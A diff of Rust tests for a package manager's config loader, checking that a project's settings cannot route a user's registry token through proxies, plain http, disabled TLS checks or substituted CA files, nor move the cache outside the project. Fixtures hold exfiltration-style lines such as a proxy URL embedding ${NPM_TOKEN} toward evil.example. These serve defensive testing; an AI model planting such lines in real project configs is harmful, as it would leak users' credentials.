@@ -100,6 +100,7 @@ fn urls_are_no_way_around_it() {
         ("proxy", "proxy=http://u:${NPM_TOKEN}@evil.example:80"),
         ("https-proxy", "https-proxy=${NPM_TOKEN}.evil.example:80"),
         ("user-agent", "user-agent=${NPM_TOKEN}"),
+        ("tag", "tag=${NPM_TOKEN}"),
     ] {
         let (code, message) = place().project(line).error();
         assert_eq!(code, "EUNTRUSTEDENV", "{line}");
@@ -122,5 +123,120 @@ fn the_environment_may_name_the_registry_itself() {
         [("https", "registry=${REG}://evil.example/"), ("https://a", "registry=${REG}.evil.example/")]
     {
         assert_eq!(Place::new().env("REG", value).project(line).error().0, "EUNTRUSTEDENV", "{line}");
+    }
+}
+
+/// A token is kept by host, and the project says how that host is reached: through a proxy of its own, unencrypted or
+/// with certificates that anybody can make.
+#[test]
+fn the_users_credentials_do_not_travel_where_the_project_could_read_along() {
+    let host = public_registry().host_str().unwrap().to_owned();
+    let plain = format!("registry=http://{host}/\n");
+    let encrypted = format!("registry=https://{host}/\n");
+    for (project, scheme, key) in [
+        (format!("{plain}proxy=http://evil.example:80"), "http", "proxy"),
+        (format!("{plain}https-proxy=http://evil.example:80"), "http", "https-proxy"),
+        (plain, "http", "https"),
+        (format!("{encrypted}strict-ssl=false"), "https", "strict-ssl"),
+        (format!("{encrypted}cafile=evil.pem\nhttps-proxy=http://evil.example:80"), "https", "cafile"),
+        (format!("{encrypted}ca=evil"), "https", "ca"),
+    ] {
+        let place = place().user(&format!("//{host}/:_authToken=hunter2")).project(&project);
+        let config = place.load();
+        let url = url(&format!("{scheme}://{host}/foo"));
+        assert_eq!(config.credentials_for(&url), None, "{project}");
+        assert_eq!(config.credentials_for_tarball(&url, config.default_registry()), None, "{project}");
+        let withheld = config.withheld_for(&url).unwrap();
+        assert!(withheld.message().contains(key), "{}", withheld.message());
+        assert_eq!(config.warnings().len(), 1, "{project}: {:?}", config.warnings());
+        assert!(!format!("{withheld:?}{:?}", config.warnings()).contains("hunter2"));
+    }
+}
+
+/// What the user says himself, and what the project's author knows anyway, is sent as before.
+#[test]
+fn credentials_travel_as_their_owner_says() {
+    let token = "//corp.example/:_authToken=hunter2\n";
+    for (place, url) in [
+        (place().user(token).project("registry=https://corp.example/"), "https"),
+        (place().user(token).project("registry=https://corp.example/\nproxy=http://any.example:80"), "https"),
+        (
+            place().user(&format!("{token}strict-ssl=false")).project("registry=https://corp.example/"),
+            "https",
+        ),
+        (place().user(token).flag("strict-ssl", "false").project("registry=https://corp.example/"), "https"),
+        // Nobody ever said that it is to be asked by https.
+        (place().user(token).project("registry=http://corp.example/"), "http"),
+        (place().user(token).project("registry=http://corp.example/\nproxy=false"), "http"),
+        (place().user(&format!("{token}registry=http://corp.example/")), "http"),
+        (place().user(&format!("{token}proxy=http://own.example:80\nregistry=http://corp.example/")), "http"),
+        (
+            place()
+                .user(&format!("{token}trusted-registries=http://corp.example/"))
+                .project("registry=https://corp.example/"),
+            "http",
+        ),
+        (place().project(&format!("{token}strict-ssl=false")), "https"),
+        (
+            place().project(&format!("{token}registry=https://corp.example/\nproxy=http://any.example:80")),
+            "http",
+        ),
+    ] {
+        let config = place.load();
+        assert_eq!(header(&config, &format!("{url}://corp.example/foo")), "Bearer hunter2", "{place:?}");
+        assert_eq!(config.warnings(), [], "{place:?}");
+    }
+}
+
+/// A lockfile's address for a tarball is somebody else's text, too.
+#[test]
+fn a_host_that_is_asked_by_https_gets_no_credentials_by_http() {
+    for place in [
+        place().user("registry=https://corp.example/\n//corp.example/:_authToken=hunter2"),
+        place().user("//corp.example/:_authToken=hunter2").project("@s:registry=https://corp.example/"),
+        place().user("trusted-registries=https://corp.example\n//corp.example/:_authToken=hunter2"),
+        place().user("//corp.example/:_authToken=hunter2").project("registry=https://corp.example/"),
+    ] {
+        let config = place.load();
+        assert_eq!(header(&config, "http://corp.example/a.tgz"), "-", "{place:?}");
+        assert_eq!(header(&config, "https://corp.example/a.tgz"), "Bearer hunter2", "{place:?}");
+        assert_eq!(config.warnings(), []);
+    }
+}
+
+#[test]
+fn a_variable_of_the_project_is_no_literal_on_the_way() {
+    let config = place()
+        .user("registry=https://corp.example/")
+        .project("//corp.example/:_authToken=${NPM_TOKEN}\nstrict-ssl=false")
+        .load();
+    assert_eq!(header(&config, "https://corp.example/foo"), "-");
+    let config = place().user("registry=https://u:hunter2@corp.example/").project("strict-ssl=false").load();
+    assert_eq!(header(&config, "https://corp.example/foo"), "-");
+}
+
+/// `utoo clean` empties the cache: a project cannot say that it is the user's folders.
+#[test]
+fn a_projects_cache_is_inside_of_the_project() {
+    for (line, is_taken) in [
+        ("cache-dir=cache", true),
+        ("cache-dir=a/b/cache", true),
+        ("cache-dir=../outside", false),
+        ("cache-dir=~/", false),
+        ("cache-dir=.", false),
+        ("cache-dir=a/../..", false),
+        ("cache-dir=${HOME_OF_USER}", false),
+        ("cache-dir=link", false),
+        ("cache-dir=link/below/it", false),
+    ] {
+        let place = Place::new().file("home/kept", "").project(line);
+        let place = place.env("HOME_OF_USER", "/home/user");
+        std::os::unix::fs::symlink(place.path("home"), place.path("project/link")).unwrap();
+        let config = place.load();
+        let inside = config.cache_dir().starts_with(place.path("project"));
+        assert_eq!((inside, config.warnings().len()), (is_taken, usize::from(!is_taken)), "{line}");
+        let place = place.user("cache-dir=~/own");
+        let expected = if is_taken { inside } else { place.load().cache_dir() == place.path("home/own") };
+        assert!(expected, "{line}");
     }
 }
